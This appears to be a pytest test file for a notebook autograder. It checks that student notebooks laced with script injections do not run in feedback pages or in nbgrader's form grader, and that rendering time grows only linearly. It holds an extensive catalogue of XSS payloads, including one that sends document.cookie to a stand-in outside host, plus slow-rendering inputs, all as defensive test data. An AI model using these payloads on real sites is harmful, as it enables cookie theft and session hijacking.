"""Scripts that a learner stores in a notebook: not one runs where feedback is read or where a person grades."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import nbformat
import pytest
from classroom import DAY, RIGHT, TASK, Classroom, cell, stand_in
from lab_server import TOKEN, LabServer
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbgrader.api import Gradebook
from nbgrader.server_extensions.formgrader import handlers
from playwright.sync_api import Browser, Page, expect, sync_playwright
from test_browser import SWITCHES, browser_path

from autograder.exchange.verdict import TaskOutcome
from autograder.grading import work
from autograder.grading.grading import NotebookOutcome
from autograder.records import display
from autograder.records.display import TEXT_SHOWN, make_safe, markdown_as_html, one_block, safe_html
from autograder.records.pages import FEEDBACK_POLICY, harmless

RUN = "window.ran=(window.ran||0)+1;document.title='taken';fetch('http://outside.example/'+document.cookie)"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a id="click" href="javascript:{RUN}">a</a>',
    f'<details open ontoggle="{RUN}">x</details>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"</textarea></script></style></title><script>{RUN}</script>",
    '<link rel=stylesheet href="http://outside.example/a.css"><meta http-equiv=refresh content="0;url=http://outside.example/">',
    '<base href="http://outside.example/"><form action="http://outside.example/"><input name=a></form>',
    '<img src="http://outside.example/a.png"><video src="http://outside.example/v" autoplay></video>',
    '<div style="position:fixed;inset:0;background:url(http://outside.example/b.png)" class="nbgrader_cell">over</div>',
    f'<input id="{TASK.name}" class="score" value="100" autofocus onfocus="{RUN}">',
    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="javascript:{RUN}">',
    "<style>body{display:none}</style>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
)

MARKDOWN = (
    f"[a](javascript:{RUN})",
    f'<{"x" * 3} onclick="{RUN}">',
    f"![a](javascript:{RUN})",
    "![a](http://outside.example/a.png)",
    "[a]: javascript:window.ran=1\n\n[b][a]",
    f"`code` <b onmouseover={RUN}>b</b>",
    f"$x$<script>{RUN}</script>$$y$$",
    f"\\begin{{a}}<script>{RUN}</script>\\end{{a}}",
    f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    f"```\n</pre></code><script>{RUN}</script>\n```",
    f'```html" onload={RUN}\nx\n```',
    "\\[x\\](javascript:window.ran=1)",
    "<javascript:window.ran=1>",
)

MARKED = "What I wrote: a < b, a & b, **bold**, and `code`."


def hostile(room: Classroom) -> NotebookNode:
    """A blank notebook with scripts wherever a notebook has text."""
    notebook = room.released
    for number, text in enumerate((*SCRIPTS, *MARKDOWN, MARKED)):
        notebook.cells.insert(2 * number % 7, nbformat.v4.new_markdown_cell(text))
        notebook.cells.append(nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}))
        notebook.cells.append(nbformat.v4.new_code_cell(text, metadata={"tags": [f'"><script>{RUN}</script>']}))
    notebook.cells[0]["attachments"] = {"a.png": {"image/png": f'"><script>{RUN}</script>'}}
    notebook.metadata["title"] = f"</title><script>{RUN}</script>"
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"x": f"</script><script>{RUN}</script>"}
    }
    notebook.metadata["language_info"] = {"name": f'"><script>{RUN}</script>', "pygments_lexer": "html"}
    cell(notebook, TASK.answer_id).source = f'"""</div></pre><script>{RUN}</script>"""'
    return notebook


def shown_outputs() -> list[dict[str, object]]:
    """Outputs as the learner's side may report them, of every kind that the templates know."""
    outputs: list[dict[str, object]] = []
    for script in SCRIPTS:
        kinds = ("text/html", "text/markdown", "text/latex", "image/svg+xml", "text/plain", "application/javascript")
        pictures = {"image/png": f'"><script>{RUN}</script>', "text/vnd.mermaid": script}
        outputs += [{"output_type": "display_data", "data": {kind: script}, "metadata": {}} for kind in kinds]
        outputs.append({"output_type": "display_data", "data": pictures, "metadata": {}})
        outputs.append({"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{script}\x1b]8;;javascript:1\x07"})
        outputs.append(
            {"output_type": "error", "ename": script, "evalue": script, "traceback": [script, f"\x1b[1m{script}"]}
        )
    isolated = {
        "text/html": {"isolated": True},
        "image/png": {"width": f'1 onload="{RUN}"', "alt": f'"><script>{RUN}</script>'},
    }
    outputs.append({"output_type": "display_data", "data": {"text/html": SCRIPTS[0]}, "metadata": isolated})
    return outputs


def judged(name: str, notebook: NotebookNode, *_: object) -> NotebookOutcome:
    """In the place of worker and judge: no points, and every kind of output below the answer."""
    outputs = {TASK.answer_id: shown_outputs()}
    script = SCRIPTS[0]
    tasks = [TaskOutcome(TASK.name, TASK.title, "error", [f"Your cell raises {script}"], ["raised"], max_points=15.0)]
    return NotebookOutcome(name, tasks, [f"only the notebooks are graded; left aside: {script}"], outputs=outputs)


@pytest.fixture
def graded(classroom: Classroom, monkeypatch: pytest.MonkeyPatch) -> Classroom:
    """A course in which `mallory` handed in scripts, and a good student something ordinary."""
    monkeypatch.setattr(work, "grade_notebook", judged)
    path = classroom.place(json.dumps(hostile(classroom)).encode(), "mallory")
    (path.parent / f"<img src=x onerror={RUN.partition(';')[0]}>.txt").write_text("a file with a name")
    result = classroom.grade()["mallory"]
    assert not result.failure
    monkeypatch.setattr(work, "grade_notebook", stand_in)
    classroom.hand_in(RIGHT, "good")
    assert not classroom.grade()["good"].failure
    return classroom


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as running:
        chromium = running.chromium.launch(executable_path=browser_path(), args=list(SWITCHES))
        yield chromium
        chromium.close()


class Watched:
    """A page of which everything is noted that would be a script of the learner's at work."""

    def __init__(self, browser: Browser, own: str) -> None:
        self.page: Page = browser.new_context().new_page()
        self.asked: list[str] = []
        self.refused: list[str] = []
        # What the policy refuses names its text only where it may be reported.
        self.page.add_init_script(
            "document.addEventListener('securitypolicyviolation', event => console.log("
            "'refused', event.effectiveDirective, event.sourceFile, event.lineNumber, event.target.outerHTML))"
        )
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: self.refused.append(message.text))
        self.page.on("dialog", lambda dialog: (self.refused.append("dialog"), dialog.dismiss()))
        self.own = own

    def assert_nothing_ran(self) -> None:
        """No script of a learner's ran, nor was there one left that only the policy stopped."""
        for link in self.page.locator("a[href^='javascript' i]").all():
            link.click(timeout=1000)
        self.page.mouse.move(300, 300)
        self.page.wait_for_timeout(300)
        for frame in self.page.frames:
            assert frame.evaluate("window.ran") is None, frame.url
        assert self.page.title() != "taken"
        outside = [url for url in self.asked if not url.startswith((self.own, "data:", "blob:", "about:"))]
        assert not outside, outside
        blocked = [(self.page.url, text) for text in self.refused if "Content Security Policy" in text]
        assert not blocked


@pytest.mark.browser
def test_feedback_runs_and_loads_nothing(graded: Classroom, browser: Browser) -> None:
    path = graded.course.feedback / "mallory" / DAY / f"{TASK.notebook}.html"
    watched = Watched(browser, "file://")
    watched.page.goto(path.as_uri())
    watched.assert_nothing_ran()
    text = path.read_text()
    assert FEEDBACK_POLICY in text
    assert "<script" not in text
    assert watched.page.locator("strong", has_text="bold").count() == 1
    expect(watched.page.get_by_text("a < b, a & b").first).to_be_visible()
    # What the policy is for: were something let through, it would not run.
    broken = path.with_name("broken.html")
    broken.write_text(text.replace("</body>", f"{SCRIPTS[0]}{SCRIPTS[1]}</body>"))
    behind = Watched(browser, "file://")
    behind.page.goto(broken.as_uri())
    behind.page.wait_for_timeout(300)
    assert behind.page.evaluate("window.ran") is None
    assert any("Content Security Policy" in line for line in behind.refused)


ADDRESSES = (
    "gradebook",
    f"gradebook/{DAY}",
    f"gradebook/{DAY}/{TASK.notebook}",
    "manage_students",
    "manage_students/mallory",
    f"manage_students/mallory/{DAY}",
    f"manage_submissions/{DAY}",
    "manage_assignments",
    "manage_students/" + quote(f'";{RUN};"', safe=""),
    "manage_students/%5C/" + quote(f";{RUN};//", safe=""),
    f"gradebook/{DAY}/" + quote(f"</script><script>{RUN}</script>", safe=""),
)
"""Pages of the form grader, some with scripts in their addresses."""


def visit(watched: Watched, server: LabServer, address: str) -> None:
    """Open a page of the form grader and see that nothing of a learner's runs."""
    watched.page.goto(server.url(f"/formgrader/{address}"))
    watched.page.wait_for_load_state("networkidle")
    expect(watched.page.locator(".page-header", has_text="nbgrader")).to_be_visible()
    watched.assert_nothing_ran()


@pytest.mark.browser
def test_the_form_grader_runs_its_own_scripts_only_and_still_grades(
    graded: Classroom, browser: Browser, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    with Gradebook(graded.course.database, "fxopt") as book:
        found = {who: book.find_submission_notebook(TASK.notebook, DAY, who).id for who in ("mallory", "good")}
    with LabServer(graded.course.root, home, "--instructor") as server:
        watched = Watched(browser, server.url(""))
        page = watched.page
        page.goto(server.url(f"/login?token={TOKEN}"))
        page.goto(server.url(f"/formgrader/submissions/{found['mallory']}/"))
        expect(page.locator("input.score").first).to_be_visible()
        watched.assert_nothing_ran()
        page.locator(".name-hidden.glyphicon").first.click()
        expect(page.locator(".name-shown").first).to_be_visible()
        for address in ADDRESSES:
            visit(watched, server, address)
        with Gradebook(graded.course.database, "fxopt") as book:
            script = f'"><script>{RUN}</script><img src=x onerror="{RUN}">'
            book.update_or_create_student("mallory", first_name=script, last_name=script, email=script)
        for address in ADDRESSES:
            visit(watched, server, address)
        page.goto(server.url("/formgrader/manage_students"))
        expect(page.get_by_role("gridcell", name="mallory", exact=True)).to_be_visible()
        # A person's points go where they belong.
        page.goto(server.url(f"/formgrader/submissions/{found['good']}/"))
        box = page.locator(f"input.score#{TASK.name}")
        expect(box).to_have_attribute("placeholder", "15")  # the judge's points; a person's take their place
        box.fill("11")
        box.blur()
        page.wait_for_load_state("networkidle")
        deadline = time.monotonic() + 30
        score = None
        while score != 11.0 and time.monotonic() < deadline:
            with Gradebook(graded.course.database, "fxopt") as book:
                score = book.find_grade(TASK.name, TASK.notebook, DAY, "good").manual_score
            page.wait_for_timeout(100)
        assert score == 11.0
        # What the policy is for: a script that stands in the stored notebook itself.
        stored = graded.course.records / "autograded" / "mallory" / DAY / f"{TASK.notebook}.ipynb"
        stored.chmod(0o644)
        notebook = nbformat.read(stored, as_version=4)
        notebook.cells.append(nbformat.v4.new_markdown_cell(SCRIPTS[0] + SCRIPTS[1]))
        nbformat.write(notebook, stored)
        behind = Watched(browser, server.url(""))
        behind.page.goto(server.url(f"/login?token={TOKEN}"))
        behind.page.goto(server.url(f"/formgrader/submissions/{found['mallory']}/"))
        expect(behind.page.locator("input.score").first).to_be_visible()
        behind.page.wait_for_timeout(300)
        assert behind.page.evaluate("window.ran") is None
        assert any("Content Security Policy" in line for line in behind.refused)


def test_stock_templates_show_a_graded_notebook_without_its_scripts(graded: Classroom, browser: Browser) -> None:
    stored = graded.course.records / "autograded" / "mallory" / DAY / f"{TASK.notebook}.ipynb"
    shown = {"nbgrader": {"score": 0, "max_score": 15, "late_penalty": 0, "notebook": "x"}, "index": 0, "total": 1}
    for template in ("formgrade", "feedback", "classic", "lab"):
        exporter = HTMLExporter(template_name=template, extra_template_basedirs=[handlers.template_path])
        exporter.mathjax_url = exporter.jquery_url = exporter.require_js_url = ""
        try:
            html, _ = exporter.from_filename(str(stored), resources=dict(shown))
        except Exception as error:
            if template == "feedback":
                continue  # it asks for scores of every cell, which only nbgrader's own step provides
            raise AssertionError(template) from error
        page = Watched(browser, "data:").page
        page.set_content(html, wait_until="commit")
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran") is None, template
        assert not re.search(r"<(iframe|object|embed|form|base|meta http-equiv)", html.partition("<body")[2]), template


@pytest.mark.parametrize("text", SCRIPTS)
def test_safe_html_keeps_no_code_and_no_address(text: str) -> None:
    safe = safe_html(text)
    assert not re.search(
        r"script|onerror|onload|ontoggle|javascript:|outside\.example(?!.*</pre>)|style|class=|id=", safe
    )


def test_safe_html_keeps_what_tables_and_texts_are_made_of() -> None:
    table = "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td colspan='2'>1</td></tr></tbody></table>"
    assert safe_html(table).count("<t") == 7
    assert 'colspan="2"' in safe_html(table)
    assert safe_html("<p><b>wrong: 0 of 20 points</b></p><p>→ use <code>x</code></p>").startswith("<p><b>wrong")
    assert "https://pytorch.org" in safe_html('<a href="https://pytorch.org">a</a>')
    assert markdown_as_html("| a |\n| - |\n| 1 |").count("<t") == 7


def test_one_block_is_handed_through_by_the_templates_own_markdown() -> None:
    for text in (*MARKDOWN, "a\n\nb", "    code", "$x$ $$y$$ \\(z\\)", "- a\n- b", "```\nx\n\ny\n```", "<x>" * 50):
        block = one_block(markdown_as_html(text))
        assert "\n" not in block
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(block)])
        html, _ = HTMLExporter(template_name="basic").from_notebook_node(notebook)
        assert not re.search(r"<script|<[^>]*(javascript:|onerror=|onmouseover)", html), text


SLOW = {
    "blank lines": "\n",
    "formulas": "\\begin{a}",
    "dollars": "$$ x ",
    "brackets": "[",
    "stars": "*a **b ",
    "deep quotes": "> ",
    "deep elements": "<div>",
    "deep bold": "<b>",
    "links": "[a](<",
    "entities": "&",
    "attributes": "x=1 ",
    "escapes": "\x1b[1;",
}
"""What nbconvert alone takes minutes over when it is repeated."""

ORDINARY = "A *word* with `code`, a [link](https://pytorch.org), &lt; and <b>bold</b>. "


def text_of(kind: str, length: int) -> str:
    """About `length` characters of one kind."""
    if kind == "deep lists":  # its length grows with the square of its depth
        return "".join("  " * depth + "- a\n" for depth in range(int(length**0.5)))
    text = {"ordinary": ORDINARY, **SLOW}[kind]
    return ("<a " if kind == "attributes" else "") + text * (length // len(text))


def seconds_to_show(kind: str, length: int) -> float:
    """Processor time to make a notebook safe whose every part holds such a text, and to turn it into a page."""
    text = text_of(kind, length)
    outputs = [
        nbformat.v4.new_output("display_data", {"text/html": text, "text/plain": text}),
        nbformat.v4.new_output("stream", name="stdout", text=text),
        nbformat.v4.new_output("display_data", {"text/markdown": text}),
    ]
    cells = [nbformat.v4.new_markdown_cell(text), nbformat.v4.new_code_cell("1", outputs=outputs)]
    notebook = nbformat.v4.new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    started = time.process_time()
    make_safe(notebook, [])
    HTMLExporter(template_name="classic").from_notebook_node(notebook)
    return time.process_time() - started


def test_showing_takes_time_that_grows_with_the_length_only() -> None:
    long = TEXT_SHOWN // 4
    seconds_to_show("ordinary", 1000)  # what is imported and compiled at the first page
    ordinary = seconds_to_show("ordinary", long)
    for kind in (*SLOW, "deep lists"):
        taken = seconds_to_show(kind, long)
        # Four times the text: 4 if the time grows with the length, 16 if with its square.
        assert taken < 9 * max(seconds_to_show(kind, long // 4), ordinary / 8), kind
        assert taken < 8 * ordinary, kind


SLOW_CODE = {
    "Perl": "%%perl\n" + "s{" * 8000,
    "HTML": "%%html\n" + "<!--" * 4000,
    "a string": '"""' + "\\" * 16000,
    "brackets": "(" * 16000,
    "shell": "!a\n" * 5000,
    "blank lines": "x" + " \n" * 8000,
    "names of characters": "u'" + "\\N{" * 60_000,
    "names of characters, line by line": ('u"""' + "\\N{" * 500 + "\n") * 12,
}
"""Code that is coloured, some of it by what knows the language that a cell's first line names."""


def seconds_to_colour(source: str) -> float:
    """Processor time to make a code cell safe and to turn it into a page."""
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    started = time.process_time()
    make_safe(notebook, [])
    HTMLExporter(template_name="basic").from_notebook_node(notebook)
    return time.process_time() - started


def test_code_is_coloured_in_time_that_grows_with_its_length_only() -> None:
    seconds_to_colour("a = 1")  # what is imported and compiled at the first page
    ordinary = seconds_to_colour("a = f(b, 'c')  # d\n" * 800)
    for kind, source in SLOW_CODE.items():
        assert seconds_to_colour(source) < 4 * ordinary, kind


def test_colour_is_left_out_of_a_notebook_that_has_long_code_and_of_no_other() -> None:
    for source, lexer in (("x = 1\n" * 3000, "python3"), ("x = 1\n" * 4000, "text"), ("x" * 2001, "text")):
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
        make_safe(notebook, [])
        assert (notebook.cells[0].source, notebook.metadata.language_info.pygments_lexer) == (source, lexer)
        page, _ = HTMLExporter(template_name="basic").from_notebook_node(notebook)
        assert source.splitlines()[0] in re.sub("<[^>]*>", "", page)
        assert ('<span class="n">' in page) == (lexer == "python3")


def test_no_more_is_rendered_than_a_notebook_has_room_for(monkeypatch: pytest.MonkeyPatch) -> None:
    rendered: list[int] = []

    def counted(_: object, text: str) -> str:
        rendered.append(len(text))
        return ""

    monkeypatch.setattr(display._Markdown, "render", counted)
    text = "[" * (TEXT_SHOWN // 2)
    outputs = [nbformat.v4.new_output("display_data", {"text/markdown": text}) for _ in range(20)]
    cells = [nbformat.v4.new_code_cell("1", outputs=outputs), nbformat.v4.new_code_cell("2", outputs=outputs)]
    many = [nbformat.v4.new_markdown_cell(text) for _ in range(30)]
    notebook = nbformat.v4.new_notebook(cells=[*cells, *many, nbformat.v4.new_markdown_cell("*the last*")])
    make_safe(notebook, [])
    assert sum(rendered) <= display.OUTPUTS_SHOWN + display.TEXTS_SHOWN
    assert sum(rendered) >= 0.9 * (display.OUTPUTS_SHOWN + display.TEXTS_SHOWN), "there was room for more"
    assert "further output was left out" in notebook.cells[1].outputs[-1].text
    assert notebook.cells[-1].source == "<div><pre>*the last*</pre></div>"


def test_harmless_text_stays_inside_a_string_an_attribute_and_an_element() -> None:
    for text in ('";alert(1);"', "\\", "</script><script>", "' onload=1", "`${1}`", "a\nb", "\u2028"):
        safe = str(harmless(text))
        assert not re.search(r"[\"'<>\\`\n\u2028]", safe)
    assert harmless(5) == 5
    assert harmless(harmless("<b>")) == harmless("<b>")
